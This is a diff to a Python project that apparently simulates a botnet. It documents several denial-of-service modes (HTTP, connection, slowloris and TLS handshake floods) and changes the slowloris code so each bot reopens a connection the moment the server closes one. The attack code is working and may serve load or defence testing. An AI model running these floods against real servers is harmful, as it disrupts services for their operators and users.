@@ -16,7 +16,8 @@ second to idle bots; when none is idle the action is skipped and counted. The mo
 - http-flood: keep-alive connections, `GET /` as fast as the rate says (a unit: a request);
 - conn-flood: connections held open without a byte until the server closes them (a connection);
 - slowloris: connections that send an incomplete request, then one header line every
-  SLOWLORIS_INTERVAL_S, never the blank line that ends it (a connection);
+  SLOWLORIS_INTERVAL_S, never the blank line that ends it, and open another as soon as the server
+  closes one (a connection);
 - tls-flood: a TLS ClientHello (made once by Python's ssl, a pool reused) on each new
   connection, read the server's first flight (it has signed by then), close: the server pays
   for every handshake, the bot for none (a handshake answered);
@@ -415,7 +416,16 @@ class Botnet:
                                            f"User-Agent: {USER_AGENTS[bot % len(USER_AGENTS)]}\r\n").encode())
             self.count("requests")
             while True:
-                await asyncio.sleep(SLOWLORIS_INTERVAL_S * self.random.uniform(0.8, 1.0))
+                # Between lines the bot listens: the moment the server lets the connection go (its
+                # timeout, a reset) the bot opens another, as slowloris tools do to keep their hold.
+                try:
+                    closed = not await asyncio.wait_for(loop.sock_recv(sock, RECV_BYTES),
+                                                        SLOWLORIS_INTERVAL_S * self.random.uniform(0.8, 1.0))
+                except TimeoutError:
+                    closed = False
+                if closed:
+                    self.count("closed_by_server")
+                    break
                 await loop.sock_sendall(sock, f"X-a{self.random.getrandbits(16)}: b\r\n".encode())
                 self.count("slow_lines")
         except OSError:
